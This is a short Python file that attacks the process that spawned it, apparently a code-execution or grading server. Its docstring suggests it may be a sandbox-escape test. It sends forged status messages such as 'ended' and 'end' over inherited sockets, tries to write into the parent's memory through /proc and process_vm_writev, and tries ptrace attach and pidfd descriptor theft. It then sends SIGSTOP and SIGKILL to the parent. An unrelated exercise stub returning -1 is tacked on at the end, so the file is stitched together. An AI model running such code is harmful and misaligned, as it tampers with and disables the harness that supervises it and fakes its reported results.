"""Talks to the process that it was forked from, writes into it, stops it, and asks for its work.

Stopped from level: kernel.
"""
import array
import ctypes
import json
import os
import signal
import socket

SERVER = os.getppid()


def attempt(act, *arguments):
    try:
        return act(*arguments)
    except BaseException:
        return None


def over_an_open_descriptor(number):
    connection = socket.socket(fileno=os.dup(number))
    for message in (
        {"op": "ended", "status": 9},
        {"op": "forked", "pid": os.getpid()},
        {"op": "fork", "modules": ["os"]},
        {"op": "end", "pid": SERVER, "seconds": 1, "home": os.environ["HOME"], "uid": None},
    ):
        connection.send(json.dumps(message).encode())
    rights = array.array("i", [number])
    connection.sendmsg([b"{}"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, rights)])


for number in range(3, 256):
    attempt(over_an_open_descriptor, number)
for path in ("mem", "fd/3", "root", "cwd"):
    attempt(lambda: open("/proc/%d/%s" % (SERVER, path), "r+b").write(b"x"))
libc = ctypes.CDLL(None)
attempt(libc.ptrace, 16, SERVER, 0, 0)
attempt(libc.process_vm_writev, SERVER, 0, 0, 0, 0, 0)
attempt(libc.syscall, 438, attempt(libc.syscall, 434, SERVER, 0) or 0, 3, 0)  # pidfd_getfd
for number in (signal.SIGSTOP, signal.SIGKILL):
    attempt(os.kill, SERVER, number)
    attempt(os.killpg, attempt(os.getpgid, SERVER) or SERVER, number)


# ---- Problem 2 ----
def output_size(n_in, filter_size, padding=0, stride=1):
    return -1
